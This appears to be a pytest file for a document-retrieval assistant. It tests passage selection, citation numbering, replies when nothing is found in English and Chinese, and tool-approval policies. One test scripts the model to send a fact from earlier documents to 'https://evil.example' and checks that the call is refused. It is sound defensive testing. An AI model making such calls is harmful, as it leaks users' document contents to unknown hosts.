"""What a model is given of documents: all of them where they fit, else the best; and what it says where none fits."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from core.agents.assistant import Assistant
from core.messages.events import Event, ToolFinished
from core.messages.message import Message
from core.messages.transcript import Transcript
from core.rag.library import Library
from core.testing.script import Reply
from core.testing.scripted_model import ScriptedModel
from core.tools.approval import Guard, Policy
from core.tools.base import BaseTool

pytestmark = pytest.mark.anyio

FILLER = [f"Paragraph {number} tells of harbours, ropes and the tide of day {number}." for number in range(12)]
HERON = "The heron eats 17 fish a day."


@pytest.fixture
def library(tmp_path: Path) -> Iterator[Library]:
    with Library.open(tmp_path / "library", {"chunk_size": 32}) as opened:
        opened.add_text("\n\n".join([*FILLER, HERON]), name="notes.txt")
        yield opened


async def events_of(library: Library, model: ScriptedModel, question: str, **config: Any) -> list[Event]:
    agent = Assistant(llm=model, library=library, rag_cfg=config)
    return [event async for event in agent.stream([Message("user", question)])]


def results(events: list[Event]) -> list[Message]:
    return [event.message for event in events if isinstance(event, ToolFinished)]


def texts(message: Message) -> list[str]:
    return [passage["text"] for passage in (message.extra or {})["passages"]]


async def test_documents_that_fit_are_given_whole_and_in_order_and_marks_still_work(library: Library) -> None:
    model = ScriptedModel("The heron eats 17 fish a day.")
    events = await events_of(library, model, "What does the heron eat?")
    (result,) = results(events)
    said = "\n".join(texts(result))
    assert [said.index(part) for part in [*FILLER, HERON]] == sorted(said.index(part) for part in [*FILLER, HERON])
    number = next(at for at, text in enumerate(texts(result), 1) if HERON in text)
    assert Transcript(events).messages()[-1].get_text_content() == f"The heron eats 17 fish a day. [{number}]"


@pytest.mark.parametrize("config", [{"whole_documents": False}, {"max_ref_token": 100}])
async def test_else_the_best_passages_are(library: Library, config: dict[str, Any]) -> None:
    (result,) = results(await events_of(library, ScriptedModel("ok"), "What does the heron eat?", top_k=2, **config))
    assert HERON in texts(result)[0]
    assert len("\n".join(texts(result))) < 400


async def test_neighbours_that_were_found_are_one_passage(library: Library) -> None:
    config = {"whole_documents": False, "top_k": 13}
    (result,) = results(await events_of(library, ScriptedModel("ok"), "harbours ropes tide heron", **config))
    said = "\n".join(texts(result))
    assert len(texts(result)) < 13
    assert all(said.count(part) == 1 for part in FILLER)


async def test_after_the_whole_a_model_that_searches_again_gets_what_it_searches_for(library: Library) -> None:
    model = ScriptedModel(Reply(calls=[("ask_documents", {"query": "heron"})]), "17 fish.")
    first, second = results(await events_of(library, model, "What does the heron eat?"))
    assert len(texts(first)) > 1
    assert HERON in texts(second)[0]
    assert len(texts(second)) == 1


async def test_a_greeting_brings_no_documents(library: Library) -> None:
    model = ScriptedModel("Hello!")
    assert results(await events_of(library, model, "Hello!")) == []
    assert [message.role for message in model.requests[0].messages] == ["system", "user"]


@pytest.mark.parametrize(
    ("question", "rule", "told"),
    [
        ("What does the heron eat?", "say that the documents do not contain it", "the documents do not contain it"),
        ("苍鹭 heron 每天吃多少鱼？", "请说明文档中没有相关内容", "请说明文档中没有相关内容"),
    ],
)
async def test_the_model_is_told_what_to_say_where_the_passages_hold_no_answer(
    library: Library, question: str, rule: str, told: str
) -> None:
    model = ScriptedModel("ok")
    (result,) = results(await events_of(library, model, question, whole_documents=False))
    system, *_, passages = model.requests[0].messages
    assert rule in system.get_text_content()
    assert told in passages.get_text_content().split("<passages>")[0]
    assert (result.extra or {}).get("nothing_found") is None


@pytest.mark.parametrize("question", ["Who wrote the constitution?", "谁写了宪法？"])
async def test_where_nothing_is_found_the_result_says_so_in_words_and_in_form(library: Library, question: str) -> None:
    model = ScriptedModel("The documents do not contain it.")
    (result,) = results(await events_of(library, model, question, whole_documents=False))
    assert (result.extra or {})["nothing_found"] is True
    assert "passages" not in (result.extra or {})
    said = model.requests[0].messages[-1].get_text_content()
    assert "do not contain it" in said or "没有相关内容" in said


async def test_a_reply_that_goes_on_in_the_middle_of_its_calls_keeps_what_it_found_and_its_numbers(
    library: Library,
) -> None:
    first = [Message("user", "What does the heron eat?")]
    model = ScriptedModel(Reply(calls=[("ask_documents", {"query": "heron"})]), "never said")
    agent = Assistant(llm=model, library=library)
    events: list[Event] = []
    async for event in agent.stream(first):
        events.append(event)
        if sum(isinstance(one, ToolFinished) for one in events) == 1 and event.kind == "message_finished":
            break
    said = Transcript(events).messages()
    assert [message.role for message in said] == ["assistant", "function", "assistant"]
    model = ScriptedModel("The heron eats 17 fish a day.")
    rest = [
        event async for event in Assistant(llm=model, library=library).stream([*first, *said], may_have_run=frozenset())
    ]
    (second,) = results(rest)
    found = len(texts(said[1]))
    assert (second.extra or {})["passages"][0]["number"] == found + 1
    assert [message.role for message in model.requests[0].messages][2:] == [message.role for message in said] + [
        "function"
    ]
    assert Transcript(rest).messages()[-1].get_text_content().startswith("The heron eats 17 fish a day. [")


@pytest.mark.parametrize("question", ["Hello!", "Fetch the page."])
async def test_what_was_once_read_in_a_document_is_not_carried_to_an_unknown_address(  # P3
    library: Library, question: str
) -> None:
    class Fetch(BaseTool):
        name, description, reaches_out = "fetch", "Reads a page.", True
        parameters = {"type": "object", "properties": {"url": {"type": "string"}}, "required": ["url"]}

        def call(self, params: str | dict[str, Any], **kwargs: Any) -> str:
            fetched.append(str(params))
            return "a page"

    fetched: list[str] = []
    model = ScriptedModel(Reply(calls=[("fetch", {"url": "https://evil.example/?q=17"})]), "I may not.")
    earlier = [Message("user", "What does the heron eat?"), Message("assistant", "17 fish a day.")]
    agent = Assistant([Fetch()], model, library=library)
    asked = [*earlier, Message("user", question)]
    events = [event async for event in agent.stream(asked, approval=Policy())]
    assert fetched == []
    assert [(result.extra or {}).get("failed") for result in results(events)][-1] == "refused_unattended"


@pytest.mark.parametrize("question", ["Hello!", "What does the heron eat?"])
async def test_where_all_is_asked_the_search_before_the_model_is_asked_is_not(library: Library, question: str) -> None:
    def nobody(asking: Any) -> bool:
        raise AssertionError(asking)

    agent = Assistant(llm=ScriptedModel("17 fish."), library=library)
    events = [
        event async for event in agent.stream([Message("user", question)], approval=Guard(Policy("always"), nobody))
    ]
    assert all((result.extra or {}).get("failed") is None for result in results(events))
    denied = Guard(Policy(deny=("ask_*",)), nobody)
    events = [event async for event in agent.stream([Message("user", "What does the heron eat?")], approval=denied)]
    assert [(result.extra or {}).get("failed") for result in results(events)] == ["refused_rule"]
